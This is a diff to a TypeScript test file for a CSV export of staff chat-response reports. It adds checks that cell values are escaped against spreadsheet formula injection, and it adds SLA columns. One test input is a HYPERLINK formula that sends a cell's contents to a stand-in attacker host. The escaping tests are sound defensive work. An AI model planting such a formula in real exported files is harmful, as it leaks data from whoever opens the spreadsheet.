@@ -22,20 +22,42 @@ describe('csvField', () => {
   });
 });
 
+describe('csvField against formula injection (OWASP)', () => {
+  it('neutralises text a spreadsheet would run: a single quote first, and quoted', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")"`);
+    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
+    expect(csvField('+1')).toBe(`"'+1"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('\tcmd')).toBe(`"'\tcmd"`);
+    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
+    expect(csvField('=1,2')).toBe(`"'=1,2"`);
+  });
+
+  it('leaves numbers, and text that is a plain negative number, as numbers', () => {
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(-1.5)).toBe('-1.5');
+    expect(csvField('-5')).toBe('-5');
+    expect(csvField('-1.5')).toBe('-1.5');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('lan@shop')).toBe('lan@shop');
+  });
+});
+
 describe('toCsv', () => {
   it('writes the rows of a staff report with a BOM, CRLF and flattened shifts', () => {
     const report: StaffChatReport = {
       ...head,
       rows: [
-        { staffId: 'lan', name: 'Nguyễn Thị Lan, "Chị Lan"', responseTimeAvgSeconds: 420, responseTimeP90Seconds: 600, messageReplies: 2, commentReplies: 0, conversationsAnswered: 2, missedConversations: 0, missedByShift: { morning: 0, afternoon: 0 } },
-        { staffId: 'unknown', name: 'Không xác định', responseTimeAvgSeconds: null, responseTimeP90Seconds: null, messageReplies: 0, commentReplies: 0, conversationsAnswered: 0, missedConversations: 2, missedByShift: { morning: 2, afternoon: 0 } },
+        { staffId: 'lan', name: 'Nguyễn Thị Lan, "Chị Lan"', responseTimeAvgSeconds: 420, responseTimeP90Seconds: 600, messageReplies: 2, commentReplies: 0, conversationsAnswered: 2, missedConversations: 0, missedByShift: { morning: 0, afternoon: 0 }, slaMetRate: 0.5, slaMetRateByShift: { morning: 0.5, afternoon: null } },
+        { staffId: 'unknown', name: 'Không xác định', responseTimeAvgSeconds: null, responseTimeP90Seconds: null, messageReplies: 0, commentReplies: 0, conversationsAnswered: 0, missedConversations: 2, missedByShift: { morning: 2, afternoon: 0 }, slaMetRate: null, slaMetRateByShift: { morning: null, afternoon: null } },
       ],
+      shifts: [],
     };
     expect(toCsv(report)).toBe(
       '\uFEFF' +
-        'staffId,name,responseTimeAvgSeconds,responseTimeP90Seconds,messageReplies,commentReplies,conversationsAnswered,missedConversations,missedByShift.morning,missedByShift.afternoon\r\n' +
-        'lan,"Nguyễn Thị Lan, ""Chị Lan""",420,600,2,0,2,0,0,0\r\n' +
-        'unknown,Không xác định,,,0,0,0,2,2,0\r\n',
+        'staffId,name,responseTimeAvgSeconds,responseTimeP90Seconds,messageReplies,commentReplies,conversationsAnswered,missedConversations,missedByShift.morning,missedByShift.afternoon,slaMetRate,slaMetRateByShift.morning,slaMetRateByShift.afternoon\r\n' +
+        'lan,"Nguyễn Thị Lan, ""Chị Lan""",420,600,2,0,2,0,0,0,0.5,0.5,\r\n' +
+        'unknown,Không xác định,,,0,0,0,2,2,0,,,\r\n',
     );
   });
 
